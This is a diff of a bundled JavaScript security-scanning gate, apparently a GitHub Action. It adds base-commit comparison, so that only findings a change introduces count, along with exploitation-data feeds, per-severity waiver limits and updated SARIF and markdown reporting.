+    const hidden = [...hiddenFrom(root, ports.environment), `${workspace}/base`];
+    const context = { stage, workspace, hidden, checks: found.checks };
+    const { heads, bases } = await runScans(scans, context, { sources, base }, ports);
+    const changed = await stage.changed();
+    const ran = ports.clock.monotonicMs();
+    const scene = { inventory, stage, sources, changed };
+    const located = await locateHeads(heads, scene, (await base?.earlier) ?? [], ports);
+    const file = await gather_fileOf(gathering, { ...located, stage });
+    const told = base === undefined ? {} : { base: await describeBase(await base.opened, bases, inventory, ports) };
+    const own = { stage: Math.round(staged - started), locate: Math.round(ports.clock.monotonicMs() - ran) };
+    return { ...file, ...told, timings: { ...timingsOf(heads), ...own } };
+}
+/** Opened while the head is staged. */
+function pendingBase(workspace, gathering, ports) {
+    const { base: source } = gathering;
+    if (source === undefined)
+        return undefined;
+    return { opened: openBase(source, workspace, gathering, ports), earlier: source.earlier().catch(() => []) };
+}
+const timingsOf = (heads) => Object.fromEntries(heads.flatMap((head) => ('run' in head ? [[head.run.scanner.name, Math.round(head.run.reading.durationMs)]] : [])));
+const isStage = (stage) => 'paths' in stage;
+async function withoutStage(problem, gathering, ports) {
+    const { inventory, plan, root } = gathering;
+    const stage = unbuiltStage(inventory);
+    const runs = await Promise.all(plan.map((planned) => runPlanned(planned, unsupplied(planned, problem), { stage, workspace: '', hidden: [], checks: [] }, ports)));
+    const sources = openSources(root, ports.files);
+    const located = await locateRuns(runs, { inventory, stage, sources, changed: [] }, ports);
+    return gather_fileOf(gathering, { ...located, stage });
+}
+const gather_fileOf = async ({ subject, inventory, found }, seen) => ({
+    schema: 1,
+    subject: await subject,
+    inputs: {
+        ...(found.origin.digest === undefined ? {} : { policy: found.origin.digest }),
+        plan: planDigest(found),
+        lock: lockDigest,
+    },
+    inventory: {
+        files: inventory.files.length,
+        formats: inventory.formats,
+        gaps: [...inventory.gaps, ...seen.stage.gaps],
+        skips: seen.skips,
+    },
+    head: seen.evidence,
+    timings: {},
+});
+
 ;// CONCATENATED MODULE: ./build/js/flow/scan/take-evidence.js
+
 
 
 
@@ -65701,9 +68180,17 @@ async function takeEvidence(request, readPolicy, ports, supplies) {
     const subject = take_evidence_subjectOf(root, request.subject, ports);
     subject.catch(() => undefined); // Awaited when the scanners are done.
     const found = await readPolicy(root);
+    const counts = strictestSettings(found.layers).judge;
+    const base = counts === 'everything' ? undefined : await request.base?.(root);
     const inventory = await takeInventory({ root, untracked: request.untracked, exclude: found.plan.exclude, skipRules: allSkipRules }, ports);
     const plan = limitPlan(planScans(inventory.formats), found.plan, request.tools);
-    return { evidence: await gather({ supplies, root, subject, inventory, plan, found }, ports), found };
+    const { tools } = request;
+    const gathering = {
+        ...{ supplies, root, subject, inventory, plan, found },
+        ...(base === undefined ? {} : { base }),
+        ...(tools === undefined ? {} : { tools }),
+    };
+    return { evidence: await gather(gathering, ports), found };
 }
 async function take_evidence_subjectOf(root, known, { git }) {
     const { remote, commit, ref, prefix } = await git.head(root);
@@ -65855,21 +68342,27 @@ const noToken = {
     ok: false,
     failure: { kind: 'unauthenticated', message: 'This step was given no token.' },
 };
-const refuse = async () => noToken;
+const no_github_refuse = async () => noToken;
 /** GitHub as it looks without a token: nothing is asked, and everything says why. */
 const noGitHub = {
-    branchTip: refuse,
-    tree: refuse,
-    blob: refuse,
-    uploadSarif: refuse,
-    sarifStatus: refuse,
-    analyses: refuse,
-    pullRequestHead: refuse,
-    comments: refuse,
-    createComment: refuse,
-    updateComment: refuse,
-    deleteComment: refuse,
-    viewer: refuse,
+    branchTip: no_github_refuse,
+    tree: no_github_refuse,
+    blob: no_github_refuse,
+    parents: no_github_refuse,
+    mergeBase: no_github_refuse,
+    archiveAddress: no_github_refuse,
+    artifacts: no_github_refuse,
+    workflowRun: no_github_refuse,
+    artifactAddress: no_github_refuse,
+    uploadSarif: no_github_refuse,
+    sarifStatus: no_github_refuse,
+    analyses: no_github_refuse,
+    pullRequestHead: no_github_refuse,
+    comments: no_github_refuse,
+    createComment: no_github_refuse,
+    updateComment: no_github_refuse,
+    deleteComment: no_github_refuse,
+    viewer: no_github_refuse,
 };
 
 ;// CONCATENATED MODULE: ./build/js/flow/step/take.js
@@ -65884,14 +68377,18 @@ const noGitHub = {
 
 
 
+
 /** The policies of this run, read where a change cannot loosen them. `prefix`: from the root of the repository to that of the run. */
-const policiesOf = (request, prefix, { context, github = noGitHub, files }) => readPolicies({
-    context,
-    github,
-    prefix,
-    ...(request.policyPath === undefined ? {} : { policyPath: request.policyPath }),
-    ...(request.organisationPolicy === undefined ? {} : { organisationPolicy: request.organisationPolicy }),
-}, { files });
+async function policiesOf(request, prefix, { context, github = noGitHub, files }) {
+    const found = await readPolicies({
+        context,
+        github,
+        prefix,
+        ...(request.policyPath === undefined ? {} : { policyPath: request.policyPath }),
+        ...(request.organisationPolicy === undefined ? {} : { organisationPolicy: request.organisationPolicy }),
+    }, { files });
+    return context.properties === undefined ? found : { ...found, properties: context.properties };
+}
 /** A change may make any folder a symbolic link: out of the checkout, or to one that has another policy. */
 async function stayInside(path, { context, files }) {
     const [workspace, real] = await Promise.all([files.realPath(context.workspace), files.realPath(path)]).catch(() => []);
@@ -65915,7 +68412,8 @@ async function takeInStep(request, ports) {
     await refuseForeignCode(context, request.path, git);
     claimScope('scan', request.scope, ports);
     await refuseOwnFile(request.organisationPolicy, request.path, ports);
-    const { commit, prefix } = await findCheckout(request.path, context.workspace, ports);
+    const checkout = await findCheckout(request.path, context.workspace, ports);
+    const { commit, prefix } = checkout;
     const { path, tools, database } = request;
     const keeper = ports.cache === undefined ? undefined : restoreSupplies(ports.cache);
     const taken = await takeEvidence({
@@ -65923,6 +68421,7 @@ async function takeInStep(request, ports) {
         untracked: false,
         subject: subjectOfRun(context, commit, { scope: request.scope, prefix }),
         ...(tools === undefined ? {} : { tools }),
+        base: () => baseOfRun({ context, github: ports.github ?? noGitHub, checkout, scope: request.scope }, ports),
     }, () => policiesOf(request, prefix, ports), ports, suppliesOf({
         offline: false,
         ...(database === undefined ? {} : { database }),
@@ -65945,6 +68444,7 @@ const noCheckout = () => new errors/* GatehouseError */.GA('TARGET_MISSING', 'Th
 
 
 
+
 const verdict_schema_text = schemas_string();
 const verdict_schema_layer = schemas_enum(layerNames);
 const decidedBy = exactly()(strictObject({
@@ -65959,15 +68459,21 @@ const judged = exactly()(strictObject({
     by: decidedBy.describe('What put it here.'),
     why: verdict_schema_text.exactOptional(),
     how: strictObject({ text: verdict_schema_text, url: verdict_schema_text.exactOptional() }).exactOptional(),
-    introduced: schemas_boolean(),
+    introduced: schemas_boolean().describe('False when the base has it too.'),
+    spared: schemas_enum(['block', 'warn']).exactOptional().describe('What it would be if it were not older.'),
+    blocksFrom: day.exactOptional().describe('Warns until this day.'),
+    due: day.exactOptional().describe('The day until which it was to be mended.'),
+    waivedAfterMerge: verdict_schema_text.exactOptional().describe('A waiver in the change, which does not count yet.'),
     id: verdict_schema_text.describe('The first digits of the identity, enough to tell it from the others.'),
 })
     .meta({ id: 'judged', description: 'A finding and what the policy makes of it.' }));
 const waiverNote = exactly()(strictObject({
     waiver: verdict_schema_text,
-    state: schemas_enum(['expired', 'in-grace', 'expiring', 'unused']),
+    state: schemas_enum(waiverStates),
     expires: day.exactOptional(),
+    sentence: verdict_schema_text.exactOptional(),
 }));
+const comparison = exactly()(strictObject({ commit: verdict_schema_text.exactOptional(), problems: array(problemSchema) }));
 const scanner = exactly()(strictObject({
     scanner: verdict_schema_text,
     tool: toolSchema,
@@ -65982,6 +68488,9 @@ const policy = exactly()(strictObject({
     digest: digest.exactOptional(),
     organisation: strictObject({ source: verdict_schema_text, digest: digest }).exactOptional(),
     contact: verdict_schema_text.exactOptional(),
+    waiverDays: partialRecord(schemas_enum(severities), count)
+        .describe('How many days a waiver may last, by severity.')
+        .exactOptional(),
     problems: array(problemSchema),
     ignored: array(verdict_schema_text).describe('What the repository would loosen and may not.').exactOptional(),
     pending: array(verdict_schema_text).describe('Policy and waiver files whose change does not count yet.').exactOptional(),
@@ -65996,6 +68505,7 @@ const verdictSchema = exactly()(strictObject({
     reason: verdict_schema_text.describe('One sentence.'),
     policy,
     subject: subjectSchema,
+    comparison: comparison.exactOptional().describe('What a change was compared with; absent when everything counts.'),
     blocking: array(judged),
     warnings: array(judged),
     noted: array(judged),
@@ -66010,6 +68520,7 @@ const verdictSchema = exactly()(strictObject({
     }),
     waivers: array(waiverNote),
     scanners: array(scanner),
+    feeds: array(dataSchema).exactOptional(),
     judged: day.describe('The day on which it was judged, UTC.'),
 }));
 
@@ -66021,6 +68532,37 @@ const verdictSchema = exactly()(strictObject({
 const encodeVerdict = encoder(verdictSchema);
 /** @throws GatehouseError EVIDENCE_INVALID, with the first wrong key and its path. */
 const decodeVerdict = (text) => decode(text, verdictSchema, 'the verdict');
+
+;// CONCATENATED MODULE: ./build/js/report/words/change.js
+
+
+/** How many older findings would block if they counted. */
+const olderBlockers = ({ noted }) => noted.filter(({ spared }) => spared === 'block').length;
+/** A change is judged on what it introduces: there was something to compare it with. */
+const isCompared = ({ comparison }) => comparison?.commit !== undefined;
+/** `41 older findings do not count here.` Empty when there are none, or everything counts. */
+function olderInWords(verdict) {
+    const count = olderBlockers(verdict);
+    return count === 0 ? '' : `${counted(count, 'older finding does', 'older findings do')} not count here.`;
+}
+/** `41 older findings that would block, yours to plan and not counted here`: the heading of their list. */
+const olderTitle = (verdict) => `${counted(olderBlockers(verdict), 'older finding', 'older findings')} that would block, yours to plan and not counted here`;
+/** Why a change is judged on everything; empty unless it is one that should have been compared. */
+function uncomparedInWords({ comparison }) {
+    if (comparison === undefined || comparison.commit !== undefined)
+        return '';
+    return 'Everything counts, older findings too, because there is nothing to compare with.';
+}
+/** Why something could not be compared, and what to do; a sentence each. */
+const comparisonTrouble = ({ comparison }) => (comparison?.problems ?? []).map(({ sentence, hint = '' }) => [sentence, hint].flatMap((text) => (text === '' ? [] : [endSentence(onOneLine(text))])).join(' '));
+/** `origin/main at 3f86537`: what the change was compared with. */
+const comparedWith = ({ comparison, subject }) => {
+    const commit = comparison?.commit;
+    if (commit === undefined)
+        return '';
+    const branch = subject.base === undefined ? '' : `${inFull(subject.base, 100)} at `;
+    return `${branch}${inFull(commit.slice(0, 7))}`;
+};
 
 ;// CONCATENATED MODULE: ./build/js/report/words/coverage.js
 
@@ -66088,12 +68630,16 @@ function skipSentence(skips) {
 
 /** Data that does not say when it is old is told in days from here on: what became known since is not found. */
 const freshDays = 7;
+const data_names = {
+    kev: 'known exploited vulnerabilities (CISA KEV)',
+    epss: 'probabilities of exploitation (FIRST EPSS)',
+};
 const chosen = { given: ' (as given)', offline: ' (offline)', unavailable: '' };
 /** `vulnerability database of 2026-11-20, 4 days old; none newer could be fetched`: ages are counted to the day of the verdict. */
 function dataInWords({ name, updated, nextUpdate, notice }, today) {
-    const what = onOneLine(name.replace(/-/g, ' ').replace(/\bdb$/, 'database'), 60);
-    const days = daysBetween(updated, today);
-    const isOverdue = nextUpdate !== undefined && daysBetween(nextUpdate, today) > 0;
+    const what = data_names[name] ?? onOneLine(name.replace(/-/g, ' ').replace(/\bdb$/, 'database'), 60);
+    const days = data_daysBetween(updated, today);
+    const isOverdue = nextUpdate !== undefined && data_daysBetween(nextUpdate, today) > 0;
     const isUnavailable = notice?.kind === 'unavailable';
     const hasAge = days > 0 && (isOverdue || isUnavailable || days > freshDays);
     const text = [
@@ -66103,10 +68649,34 @@ function dataInWords({ name, updated, nextUpdate, notice }, today) {
     ].join('');
     return { text, isDoubtful: hasAge || isUnavailable };
 }
+/** What the findings were enriched with when they were judged. */
+const feedsInWords = ({ feeds = [], judged }) => feeds.map((each) => dataInWords(each, judged));
 /** Whole days from the day of an instant, UTC. */
-const daysBetween = (instant, today) => Math.floor((Date.parse(today) - Date.parse(instant.slice(0, 10))) / 86_400_000);
+const data_daysBetween = (instant, today) => Math.floor((Date.parse(today) - Date.parse(instant.slice(0, 10))) / 86_400_000);
 
-;// CONCATENATED MODULE: ./build/js/report/words/entry.js
+;// CONCATENATED MODULE: ./build/js/report/words/examined.js
+
+
+
+/** Not a format: what is counted are files in which secrets were searched. */
+const examined_secrets = 'secrets';
+/** `2 terraform, 1 kubernetes; 5 searched for secrets`. A file that two scanners of one tool read is one file. */
+function examinedInWords(list) {
+    const formats = [...groupBy(list, ({ format }) => format)]
+        .map(([format, counts]) => ({ format, files: Math.max(...counts.map(({ files }) => files)) }))
+        .filter(({ files }) => files > 0)
+        .sort((a, b) => b.files - a.files || order_compareText(a.format, b.format));
+    const words = formats
+        .filter(({ format }) => format !== examined_secrets)
+        .map(({ format, files }) => `${files} ${escape_inFull(format)}`)
+        .join(', ');
+    const searched = formats
+        .filter(({ format }) => format === examined_secrets)
+        .map(({ files }) => `${words === '' ? counted(files, 'file') : files} searched for secrets`);
+    return [words, ...searched].filter((part) => part !== '').join('; ') || 'nothing';
+}
+
+;// CONCATENATED MODULE: ./build/js/report/words/finding/entry.js
 
 
 /** Sorted, the worst entry first. Findings on which the policy decided differently are never one entry. */
@@ -66117,8 +68687,17 @@ const entry_entriesOf = (list) => [...groupBy([...list].sort(compareWorst), entr
 /** One upgrade repairs several of them. */
 const isPackage = ({ judged, all }) => all.length > 1 && judged.finding.kind === 'vulnerability';
 function entry_keyOf(judged) {
-    const { action, by, why, how, finding } = judged;
-    const decision = [action, by.rule === undefined ? '' : [by.layer, by.rule], by.waiver, why, how?.text];
+    const { action, by, why, how, finding, due, blocksFrom, waivedAfterMerge } = judged;
+    const decision = [
+        action,
+        by.rule === undefined ? '' : [by.layer, by.rule],
+        by.waiver,
+        why,
+        how?.text,
+        due,
+        blocksFrom,
+        waivedAfterMerge,
+    ];
     const { kind, subject } = finding;
     return JSON.stringify(kind === 'vulnerability' && subject.package !== undefined
         ? [decision, subject.package.purl, subject.package.installed, finding.place.path]
@@ -66136,7 +68715,8 @@ function entry_blockOf({ finding, id }) {
     ];
 }
 
-;// CONCATENATED MODULE: ./build/js/report/words/entry-in-words.js
+;// CONCATENATED MODULE: ./build/js/report/words/finding/entry-in-words.js
+
 
 
 
@@ -66165,15 +68745,23 @@ function timesOf({ all }) {
 const entry_in_words_titleOf = (entry) => isPackage(entry)
     ? `${counted(entry.all.length, 'vulnerability', 'vulnerabilities')}: ${bySeverity(entry.all)}`
     : titleInWords(entry.judged.finding);
-/** One paragraph each. */
-function reasonsOf(entry) {
+/** One paragraph each; what changes with time comes last. */
+const reasonsOf = (entry, verdict) => [
+    ...whyOf(entry),
+    ...timesInWords(entry.judged, verdict),
+];
+function whyOf(entry) {
     if (!isPackage(entry))
         return [reasonInWords(entry.judged) ?? ''];
     const why = entry.judged.why === undefined ? [] : [onOneLine(entry.judged.why)];
-    const titles = entry.all.map(({ finding }) => `${titleInWords(finding)}${exploitedInWords(finding)}`);
+    const titles = entry.all.map(({ finding }) => `${titleInWords(finding)}${newsOf(finding)}`);
     const more = titles.length - mostTitles;
     return [...why, ...titles.slice(0, mostTitles), ...(more > 0 ? [`and ${more} more`] : [])];
 }
+const newsOf = (finding) => {
+    const news = `${exploitedInWords(finding)}${likelihoodInWords(finding)}`;
+    return news === '' ? '' : `.${news}`;
+};
 /** The policy's words, else the one version that repairs all. */
 function adviceOf(entry) {
     const advice = adviceInWords(entry.judged);
@@ -66215,28 +68803,6 @@ function idsOf(entry) {
 const idsBeyond = (entry) => uniqueIds(entry).slice(mostIds);
 const uniqueIds = ({ all }) => [...new Set(all.map(({ id }) => id))];
 const packagesOf = ({ all }) => all.flatMap(({ finding }) => finding.subject.package ?? []);
-
-;// CONCATENATED MODULE: ./build/js/report/words/examined.js
-
-
-
-/** Not a format: what is counted are files in which secrets were searched. */
-const examined_secrets = 'secrets';
-/** `2 terraform, 1 kubernetes; 5 searched for secrets`. A file that two scanners of one tool read is one file. */
-function examinedInWords(list) {
-    const formats = [...groupBy(list, ({ format }) => format)]
-        .map(([format, counts]) => ({ format, files: Math.max(...counts.map(({ files }) => files)) }))
-        .filter(({ files }) => files > 0)
-        .sort((a, b) => b.files - a.files || order_compareText(a.format, b.format));
-    const words = formats
-        .filter(({ format }) => format !== examined_secrets)
-        .map(({ format, files }) => `${files} ${escape_inFull(format)}`)
-        .join(', ');
-    const searched = formats
-        .filter(({ format }) => format === examined_secrets)
-        .map(({ files }) => `${words === '' ? counted(files, 'file') : files} searched for secrets`);
-    return [words, ...searched].filter((part) => part !== '').join('; ') || 'nothing';
-}
 
 ;// CONCATENATED MODULE: ./build/js/report/words/policy.js
 
@@ -66302,6 +68868,7 @@ function policyNews({ policy: { pending = [], ignored = [] }, subject: { base } 
 
 
 
+
 const headlineInWords = (headline) => `Gatehouse: ${headline.state}${headline.rest}`;
 const styles = { pass: 'good', warn: 'careful', block: 'bad', error: 'bad' };
 const states = {
@@ -66329,8 +68896,11 @@ function pass(verdict) {
         return coverage.formats.length === 0
             ? '. There is nothing to scan here.'
             : '. Nothing blocks, but no file was looked at.';
+    if (isCompared(verdict))
+        return `. Nothing in this change blocks.${spaced(olderInWords(verdict))}`;
     return `. Nothing blocks: ${[counted(coverage.files, 'file'), ...headline_others(verdict)].join(', ')}.`;
 }
+const spaced = (sentence) => (sentence === '' ? '' : ` ${sentence}`);
 function headline_others({ noted, waived }) {
     const words = [
         ...(noted.length === 0 ? [] : [`${counted(noted.length, 'finding')} noted`]),
@@ -66342,9 +68912,11 @@ function warn(verdict) {
     const { warnings } = verdict;
     const trouble = troubleInHeadline(verdict);
     const told = trouble === undefined ? '' : ` ${endSentence(onOneLine(trouble))}`;
+    const where = isCompared(verdict) ? ' in this change' : '';
+    const count = older(verdict);
     if (warnings.length === 0)
-        return `.${told} Nothing blocks.`;
-    return `. ${counted(warnings.length, 'finding')} to look at; nothing blocks.${older(verdict)}${told}`;
+        return `.${told} Nothing${where} blocks.${count}`;
+    return `. ${counted(warnings.length, 'finding')}${where} to look at; nothing blocks.${count}${told}`;
 }
 /** The sentence about the gate's own trouble that the headline tells, so that nobody tells it twice. */
 function troubleInHeadline({ verdict, problems, warnings, reason }) {
@@ -66354,22 +68926,19 @@ function troubleInHeadline({ verdict, problems, warnings, reason }) {
 }
 function headline_block(verdict) {
     const { blocking, problems, mode, policy } = verdict;
+    const where = isCompared(verdict) ? ' in this change' : '';
     const what = sentences_listed([
-        ...(blocking.length > 0 ? [counted(blocking.length, 'finding')] : []),
+        ...(blocking.length > 0 ? [`${counted(blocking.length, 'finding')}${where}`] : []),
         ...mistakesCounted(verdict),
     ]);
     const trouble = problems.length === 0 ? '' : ' There may be more: not everything was looked at.';
-    const rest = `${blocking.length > 0 ? older(verdict) : ''}${trouble}`;
+    const rest = `${older(verdict)}${trouble}`;
     if (mode === 'audit')
         return ` (audit). ${what} would block.${rest}`;
     return `. ${what} ${blocking.length + (policy.broken?.length ?? 0) === 1 ? 'blocks' : 'block'} it.${rest}`;
 }
-/** The author of a change is told when findings count that may be older than it. */
-function older({ subject: { base } }) {
-    if (base === undefined)
-        return '';
-    return ` Older findings count too: this version does not compare with ${escape_inFull(base, 100)} yet.`;
-}
+/** The author of a change is told whether what is older counts. */
+const older = (verdict) => `${spaced(olderInWords(verdict))}${spaced(uncomparedInWords(verdict))}`;
 function headline_error(verdict) {
     const { problems, scanners, blocking } = verdict;
     const failed = new Set(scanners.filter(({ outcome }) => outcome !== 'complete').map(({ tool }) => tool.name));
@@ -66400,7 +68969,8 @@ const days = 30;
 /** Longer globs are refused by the reader of waivers. */
 const longestGlob = 256;
 /** A waiver for exactly this finding. */
-function waiverDraft({ finding, id }, { judged }) {
+function waiverDraft({ finding, id }, { judged, policy }) {
+    const most = Math.min(days, policy.waiverDays?.[finding.severity] ?? days);
     return {
         path: `.gatehouse/waivers/${id}.yml`,
         lines: [
@@ -66408,7 +68978,7 @@ function waiverDraft({ finding, id }, { judged }) {
             `match: { id: ${JSON.stringify(id)}, ${draft_whereOf(finding)} }`,
             'reason: ""          # why this is acceptable for now',
             'owner: ""           # who answers for it, such as "@acme/web"',
-            `expires: ${expiry(judged)} # the last day on which it counts`,
+            `expires: ${expiry(judged, most)} # the last day on which it counts`,
         ],
     };
 }
@@ -66439,7 +69009,7 @@ function draft_whereOf({ subject, place }) {
 }
 /**
  * A glob that matches this text. What a glob reads as a sign, and what a terminal or a log would not show as it is, is
- * matched as any character; of a monstrous name the folder is enough, since the id already says which finding.
+ * matched by `?`; of a monstrous name the folder is enough, since the id already says which finding.
  */
 function globOf(text) {
     const plain = text
@@ -66449,9 +69019,9 @@ function globOf(text) {
         .replace(/##\[/g, '##?');
     return plain.length <= longestGlob ? plain : `${plain.slice(0, longestGlob - 3).replace(/\/[^/]*$/, '')}/**`;
 }
-function expiry(judged) {
+function expiry(judged, most) {
     const start = Date.parse(`${judged}T00:00:00Z`);
-    return Number.isNaN(start) ? '""        ' : new Date(start + days * 86_400_000).toISOString().slice(0, 10);
+    return Number.isNaN(start) ? '""        ' : new Date(start + most * 86_400_000).toISOString().slice(0, 10);
 }
 
 ;// CONCATENATED MODULE: ./build/js/report/markdown/links.js
@@ -66459,16 +69029,16 @@ function expiry(judged) {
 
 
 const encodePath = (path) => path.split('/').map(forUri).join('/');
-const base = ({ server, repository }) => `${server}/${encodePath(repository)}`;
+const links_base = ({ server, repository }) => `${server}/${encodePath(repository)}`;
 /** A browser would walk up from them, to another repository. */
-const isWithin = (path) => !/(?:^|\/)\.{1,2}(?:\/|$)/.test(path);
+const links_isWithin = (path) => !/(?:^|\/)\.{1,2}(?:\/|$)/.test(path);
 /** The lines on the web, at the commit that was scanned; nothing for a path that is none within the repository. */
 function fileUrl({ path, region }, subject, site) {
-    if (site?.commit === undefined || !isWithin(path))
+    if (site?.commit === undefined || !links_isWithin(path))
         return undefined;
     const { startLine = 0, endLine = 0 } = region ?? {};
     const lines = startLine < 1 ? '' : `#L${startLine}${endLine > startLine ? `-L${endLine}` : ''}`;
-    return `${base(site)}/blob/${forUri(site.commit)}/${encodePath(inRepository(path, subject))}${lines}`;
+    return `${links_base(site)}/blob/${forUri(site.commit)}/${encodePath(inRepository(path, subject))}${lines}`;
 }
 /** Columns that line up in a terminal are only length in an address. */
 const compact = (line) => line.replace(/ {2,}#/, ' #');
@@ -66481,7 +69051,7 @@ function exceptionUrl(judged, verdict, site) {
         `filename=${forUri(inRepository(path, verdict.subject))}`,
         `value=${forUri(`${lines.map(compact).join('\n')}\n`)}`,
     ];
-    return `${base(site)}/new/${encodePath(site.defaultBranch)}?${query.join('&')}`;
+    return `${links_base(site)}/new/${encodePath(site.defaultBranch)}?${query.join('&')}`;
 }
 
 ;// CONCATENATED MODULE: ./build/js/report/markdown/markdown.js
@@ -66536,6 +69106,7 @@ function heading({ state, rest }) {
 
 
 
+
 /** Two columns, because GitHub lets a wider table scroll sideways: on a telephone the repair would be out of sight. */
 const entryHead = tableHead(['', 'What, where, why, and how to fix it']);
 /** One blocking or warning entry with what, where, why, how to repair it and how to ask for an exception. */
@@ -66552,7 +69123,7 @@ function entryRow(entry, verdict, site) {
                 markdown_link(markdown_code(placeInWords(finding.place)), fileUrl(finding.place, verdict.subject, site)),
                 subject === '' ? '' : markdown_code(subject),
             ]),
-            ...reasonsOf(entry).map(markdown_prose),
+            ...reasonsOf(entry, verdict).map(markdown_prose),
             by.rule === undefined ? '' : `Rule ${markdown_code(escape_inFull(by.rule))}${layerInWords(by.layer)}`,
             advice.text === undefined ? '' : `${bold('Fix:')} ${markdown_prose(advice.text)}`,
             beside([
@@ -66566,7 +69137,8 @@ function entryRow(entry, verdict, site) {
 }
 const findingHead = tableHead(['', 'What and where']);
 /** One finding in short. */
-function findingRow({ finding, id, why }, verdict, site) {
+function findingRow(judged, verdict, site) {
+    const { finding, id, why } = judged;
     const subject = subjectInWords(finding);
     return row([
         finding.severity,
@@ -66578,6 +69150,7 @@ function findingRow({ finding, id, why }, verdict, site) {
                 `id ${markdown_code(escape_inFull(id))}`,
             ]),
             why === undefined ? '' : markdown_prose(why),
+            ...timesInWords(judged, verdict).map(markdown_prose),
         ]),
     ]);
 }
@@ -66745,6 +69318,8 @@ function createRoom(most, unit) {
 
 
 
+
+
 /** Kept for what is not a row of a table: a summary is dropped whole when it is too long. */
 const summary_frame = 100_000;
 /** The page of a run: everything that the verdict holds, the worst first; what is too much for a page is counted. */
@@ -66753,11 +69328,12 @@ function renderSummary(verdict, { site, timings = {}, publication }) {
     const blocking = entries(verdict, room, site);
     const lists = [
         ['Warnings', verdict.warnings],
-        ['Noted', verdict.noted],
+        [olderTitle(verdict), verdict.noted.filter(({ spared }) => spared === 'block')],
+        ['Noted', verdict.noted.filter(({ spared }) => spared !== 'block')],
         ['Waived', verdict.waived],
     ].map(([title, list]) => findings(title, list, verdict, room, site));
     const cut = [blocking, ...lists].flatMap((part) => part.cut);
-    const waivers = verdict.waivers.map((note) => `- ${markdown_prose(waiverInWords(note))}`);
+    const waivers = verdict.waivers.map((note) => `- ${markdown_prose(waiverInWords(note, verdict))}`);
     return {
         text: markdown_document([
             ...opening(verdict),
@@ -66788,7 +69364,13 @@ function opening(verdict) {
     return [
         [`## ${title}`],
         [text, ...(said.next === '' ? [] : [markdown_prose(said.next)])],
-        [...mistakesInWords(verdict).map(item), ...trouble, ...warnings, ...policyNews(verdict).map(item)].slice(0, summary_mostNames),
+        [
+            ...mistakesInWords(verdict).map(item),
+            ...trouble,
+            ...comparisonTrouble(verdict).map(item),
+            ...warnings,
+            ...policyNews(verdict).map(item),
+        ].slice(0, summary_mostNames),
     ];
 }
 function entries(verdict, room, site) {
@@ -66824,12 +69406,14 @@ function coverage(verdict) {
 }
 function tools(verdict, timings) {
     const rows = verdict.scanners.map((scanner) => toolRow(scanner, verdict, timings[scanner.scanner]));
+    const feeds = feedsInWords(verdict);
     return [
         ...folded(`Looked at: ${looked(verdict)}`, [
             ...tableHead(['Scanner and its digest', 'Read, with which data', 'Time']),
             ...rows,
         ]),
         '',
+        ...feeds.map(({ text }) => `Data: ${markdown_prose(text)}<br>`),
         `Policy: ${markdown_prose(policyInWords(verdict))}`,
     ];
 }
@@ -66950,7 +69534,7 @@ function sarif_rule_ruleOf(id, finding, group) {
     const title = titleInWords(finding) || id;
     const help = helpOf(finding) || title;
     const url = sarif_rule_urlOf(finding);
-    const worst = Math.min(...group.map(({ action }) => actions.indexOf(action)));
+    const worst = Math.min(...group.map(({ action, spared }) => actions.indexOf(spared ?? action)));
     return {
         id,
         name: onOneLine(title, githubLimits.ruleName),
@@ -67032,13 +69616,14 @@ function ordinalsOf(wanted, all) {
     return (judged) => ordinals.get(judged) ?? 1;
 }
 function resultOf(judged, ruleIndex, ordinal, subject) {
-    const { finding, action } = judged;
+    const { finding, action, spared } = judged;
     const { logical } = finding.identity;
     const related = relatedLocations(finding.place, subject);
     return {
         ruleId: ruleIdOf(finding),
         ruleIndex,
-        level: levels[action],
+        // By the policy's word: an older alert does not change its level whenever a pull request is analysed.
+        level: levels[spared ?? action],
         message: { text: messageOf(judged) },
         locations: [locationOf(finding.place, subject)],
         ...(related.length === 0 ? {} : { relatedLocations: related }),
@@ -67242,13 +69827,16 @@ async function writeVerdict(paths, { evidence, verdict }, { context, files }) {
 
 
 
-/** Judges what another step or job scanned. Never fails: evidence that did not arrive, or is not what was sent, is an `error` verdict. */
+
+/** Judges what another step or job scanned. Evidence that did not arrive, or is not what was sent, is an `error` verdict. */
 async function runGate(request, ports) {
     const { context, runner, clock } = ports;
     const paths = await openOutput(request.outputDirectory, ports);
+    const feeds = await openFeeds(request, ports);
     const { evidence, trouble } = await run_gate_receive(request, ports);
     const found = await policiesOf(request, request.prefix, ports);
-    const verdict = judgeEvidence(evidence, { ...found, trouble: [...trouble, ...found.trouble] }, request.mode, clock);
+    const policies = { ...found, trouble: [...trouble, ...found.trouble] };
+    const verdict = judgeEvidence(evidence, policies, { mode: request.mode, feeds }, clock);
     setOutputs(judgedOutputs(verdict, paths, context), runner);
     await writeVerdict(paths, { evidence, verdict }, ports);
     runner.log(`\nGatehouse: ${verdict.verdict}. ${onOneLine(verdict.reason)} The next step publishes it and decides the end.\n`);
@@ -67279,7 +69867,7 @@ async function readEvidence(request, { artifacts, context, files }) {
         });
     }
     const decoded = decodeEvidence(text);
-    subject_refuseOthers(decoded.subject, request, context);
+    refuseOthers(decoded.subject, request, context);
     return decoded;
 }
 /** Some hundred thousand findings; whoever writes more wants this process to run out of memory. */
@@ -67454,7 +70042,7 @@ const timeoutChoices = ['unpublished', 'published'];
 /** `steps.ID.outcome` of an upload step. */
 const uploadOutcomes = ['success', 'failure', 'cancelled', 'skipped'];
 /** The expression in `action.yml` gives the job's token; empty means: without one. */
-const token = { ...input_optional(kinds_secret), default: '${{ github.token }}' };
+const tables_token = { ...input_optional(kinds_secret), default: '${{ github.token }}' };
 const outputDirectory = {
     default: '',
     required: false,
@@ -67466,7 +70054,7 @@ const looking = {
     'organisation-policy': input_optional(anyText),
     tools: input_optional(toolList),
     'output-directory': outputDirectory,
-    token,
+    token: tables_token,
     'vulnerability-db': input_optional(anyPath),
     scope: withDefault('repository', scopeName),
     cache: withDefault('true', flag),
@@ -67475,8 +70063,10 @@ const judging = {
     policy: looking.policy,
     'organisation-policy': looking['organisation-policy'],
     mode: input_optional(kinds_oneOf(modes)),
+    kev: input_optional(anyPath),
+    epss: input_optional(anyPath),
     'output-directory': outputDirectory,
-    token,
+    token: tables_token,
 };
 const publishing = {
     transport: withDefault('api', kinds_oneOf(transports)),
@@ -67503,7 +70093,7 @@ const inputTables = {
         'verdict-file': input_required(anyPath),
         evidence: input_optional(anyPath),
         uploaded: input_optional(kinds_oneOf(uploadOutcomes)),
-        token,
+        token: tables_token,
     },
 };
 
@@ -67581,107 +70171,8 @@ const tool_versions_toolNames = toolVersions().map(([name]) => name);
